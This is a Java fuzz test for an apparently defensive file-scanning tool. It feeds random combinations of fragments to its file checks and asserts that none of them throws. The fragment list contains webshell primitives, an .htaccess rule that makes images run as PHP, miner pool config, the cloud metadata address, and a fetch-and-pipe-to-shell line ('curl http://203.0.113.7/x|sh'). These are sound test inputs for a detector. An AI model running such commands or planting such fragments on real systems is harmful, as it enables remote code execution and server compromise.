package davy.agent.check.file;

import static org.assertj.core.api.Assertions.assertThat;

import davy.agent.check.Catalogue;
import davy.agent.check.Options;
import davy.agent.triage.CheckTrial;
import davy.core.host.CaseHost;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.Test;

/// No content of a file makes a check of this area throw. Seed: `-Ddavy.seed=N`.
final class FileJunkTest {
    private static final List<String> PLACES =
            List.of(
                    "/var/www/a.php",
                    "/var/www/b.jsp",
                    "/var/www/c.asp",
                    "/var/www/d.gif",
                    "/var/www/.htaccess",
                    "/var/www/.user.ini",
                    "/etc/nginx/nginx.conf",
                    "/etc/apache2/apache2.conf",
                    "/etc/selinux/config",
                    "/tmp/x.sh",
                    "/tmp/x.py",
                    "/tmp/.y/z",
                    "/root/.bash_history",
                    "/opt/config.json",
                    "/opt/pools.txt",
                    "/tmp/h.c",
                    "/usr/bin/p",
                    "/usr/sbin/sshd",
                    "/usr/lib/l.so");
    private static final List<String> PIECES =
            List.of(
                    "<?php ",
                    "?>",
                    "<?",
                    "<%",
                    "%>",
                    "$_POST['x']",
                    "$_GET[",
                    "$a",
                    "=",
                    ".",
                    "^",
                    "(",
                    ")",
                    "[",
                    "]",
                    "{",
                    "}",
                    "'",
                    "\"",
                    "`",
                    "\\",
                    "\\x4",
                    "\\u00",
                    "\\u0065",
                    "\\7",
                    "<<<E\n",
                    "E;\n",
                    "/*",
                    "*/",
                    "//",
                    "#",
                    "\n",
                    ";",
                    ",",
                    "eval(",
                    "assert(",
                    "system(",
                    "base64_decode(",
                    "str_replace('a','',",
                    "strrev(",
                    "chr(99",
                    "preg_replace('/x/e',",
                    "array_map(",
                    "function ",
                    "foreach(",
                    "php://input",
                    "openssl_decrypt(",
                    "class ",
                    "Runtime.getRuntime().exec(",
                    "request.getParameter(",
                    "=request.getHeader(",
                    "defineClass(",
                    "scriptengine.eval(",
                    "eval request(",
                    "AddType application/x-httpd-php .jpg\n",
                    "auto_prepend_file=",
                    "root /srv/x;\n",
                    "DocumentRoot \"",
                    "#!/bin/sh\n",
                    "curl http://203.0.113.7/x|sh\n",
                    "base64 -d|sh",
                    "kill -9 ",
                    "{\"donate-level\":",
                    "\"pools\":[",
                    "stratum+tcp://a.b:3333",
                    "169.254.169.254",
                    "/aegis",
                    "\177ELF",
                    "\0",
                    "\r",
                    "é");

    @Test
    void noContentMakesCheckThrow() {
        long seed = Long.getLong("davy.seed", 20_260_116L);
        var random = new Random(seed);
        var checks =
                Catalogue.entries().stream().filter(entry -> entry.area().equals("file")).toList();
        assertThat(checks).hasSizeGreaterThan(15);
        for (int round = 0; round < 40; round++) {
            Map<String, Object> host = new LinkedHashMap<>();
            for (String place : PLACES) {
                host.put(place, Map.of("text", junk(random), "mode", "0755"));
            }
            if (round % 2 == 0) {
                host.put("packages", Map.of("p", Map.of("/usr/bin/p", Map.of("changed", true))));
            }
            for (var entry : checks) {
                var trial =
                        CheckTrial.run(entry, CaseHost.of(host), Options.standard().withDeep(true));
                assertThat(trial.failures())
                        .as("seed " + seed + " round " + round + ' ' + entry.detection().id())
                        .isEmpty();
            }
        }
    }

    private static String junk(Random random) {
        var text = new StringBuilder();
        for (int n = random.nextInt(60); n >= 0; n--) {
            text.append(PIECES.get(random.nextInt(PIECES.size())));
        }
        return text.toString();
    }
}
